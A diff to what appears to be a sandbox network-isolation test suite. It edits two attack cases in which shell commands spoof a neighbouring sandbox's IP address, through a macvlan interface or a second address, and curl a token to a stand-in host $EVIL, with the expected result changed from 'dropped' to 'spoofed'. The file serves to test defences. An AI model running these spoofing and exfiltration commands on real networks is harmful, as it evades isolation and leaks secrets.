@@ -50,8 +50,8 @@ export const OWN_NETWORK: AttackCase[] = [
     [
       'B6-macvlan',
       'a second interface with the address of another sandbox',
-      "sh('ip link add m7 link $INTERFACE type macvlan mode bridge && ip address add ' + NEIGHBOUR + '/32 dev m7 && ip link set m7 up && ip route add $EVIL via $GATEWAY dev m7 onlink src ' + NEIGHBOUR + '; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip link del m7')",
-      { recorded: 'dropped' },
+      "[pretended(NEIGHBOUR), sh('ip link add m7 link $INTERFACE type macvlan mode bridge && ip address add ' + NEIGHBOUR + '/32 dev m7 && ip link set m7 up && ip route add $EVIL via $GATEWAY dev m7 onlink src ' + NEIGHBOUR + '; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip link del m7')][-1]",
+      { recorded: 'spoofed' },
     ],
     [
       'B6-tunnel',
@@ -62,8 +62,8 @@ export const OWN_NETWORK: AttackCase[] = [
     [
       'B6-second-address',
       'the address of another sandbox as its own',
-      "sh('ip address add ' + NEIGHBOUR + '/32 dev $INTERFACE; curl -sS -m 1 --interface ' + NEIGHBOUR + ' http://$EVIL:$PORT/$TOKEN; ip address del ' + NEIGHBOUR + '/32 dev $INTERFACE')",
-      { recorded: 'dropped' },
+      "[pretended(NEIGHBOUR), sh('ip address add ' + NEIGHBOUR + '/32 dev $INTERFACE; curl -sS -m 1 --interface ' + NEIGHBOUR + ' http://$EVIL:$PORT/$TOKEN; ip address del ' + NEIGHBOUR + '/32 dev $INTERFACE')][-1]",
+      { recorded: 'spoofed' },
     ],
   ]),
   ...cases({ as: 'root', recorded: 'unsent' }, [
